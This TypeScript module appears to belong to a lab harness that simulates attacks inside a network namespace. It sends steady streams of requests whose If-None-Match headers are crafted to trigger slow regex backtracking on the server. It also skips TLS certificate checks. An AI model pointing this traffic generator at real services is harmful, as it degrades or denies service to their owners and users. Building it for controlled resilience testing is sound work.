import { randomInt } from 'node:crypto';
import { Agent, type RequestOptions, request } from 'node:http';
import { request as requestTls, Agent as TlsAgent } from 'node:https';
import { fileURLToPath } from 'node:url';
import type { Network } from '../network-namespace.ts';
import { serveStats, startClient } from './client-process.ts';

type Target = {
  port: number;
  tls: boolean;
  /** The Host header. */
  name: string;
  /** Header lengths in bytes. */
  lengths: readonly number[];
  perSecond: number;
};
type Options = Target & { host: string; from: string };
/** Responses by status; 0 means no response. */
type Stats = { sent: number; statuses: Record<string, number> };

/** Values that make a backtracking pattern slow. They go inside quotes, because HTTP parsers trim the ends of a header. */
const fillings = [' ', ' ,', '"a",', 'W/"', '\t', ', "'];
const filled = (filling: string, length: number) => `"a${filling.repeat(length / filling.length)}b"`;

const oneOf = <T>(list: readonly T[]): T => list[randomInt(list.length)] as T;

const paths = ['/', '/privacy-policy', '/rest/v1/blog_posts?select=id,title&limit=5'];

function sendSteadily({ from, host, lengths, name, perSecond, port, tls }: Options, stats: Stats): void {
  const agent = tls ? new TlsAgent({ keepAlive: true, maxSockets: 50 }) : new Agent({ keepAlive: true, maxSockets: 50 });
  const send = tls ? requestTls : request;
  setInterval(() => {
    stats.sent += 1;
    const options: RequestOptions & { servername: string; rejectUnauthorized: boolean } = {
      host,
      port,
      agent,
      localAddress: from,
      servername: 'localhost',
      rejectUnauthorized: false,
      path: oneOf(paths),
      headers: {
        Host: name,
        apikey: 'public-anonymous-key',
        'Accept-Encoding': 'br',
        'If-None-Match': filled(oneOf(fillings), oneOf(lengths)),
      },
      timeout: 10_000,
    };
    const count = (status: number) => {
      stats.statuses[status] = (stats.statuses[status] ?? 0) + 1;
    };
    const sent = send(options, (response) => {
      response.resume();
      count(response.statusCode ?? 0);
    });
    sent.on('timeout', () => sent.destroy());
    sent.on('error', () => count(0));
    sent.end();
  }, 1_000 / perSecond);
}

/** Sends adversarial `If-None-Match` values until stopped. */
export const sendIfNoneMatch = (network: Network, target: Target) =>
  startClient<Options, Stats>(network, fileURLToPath(import.meta.url), {
    ...target,
    host: network.host,
    from: network.attackers[0] ?? '',
  });

if (import.meta.main) {
  serveStats<Options>((options) => {
    const stats: Stats = { sent: 0, statuses: {} };
    sendSteadily(options, stats);
    return stats;
  });
}
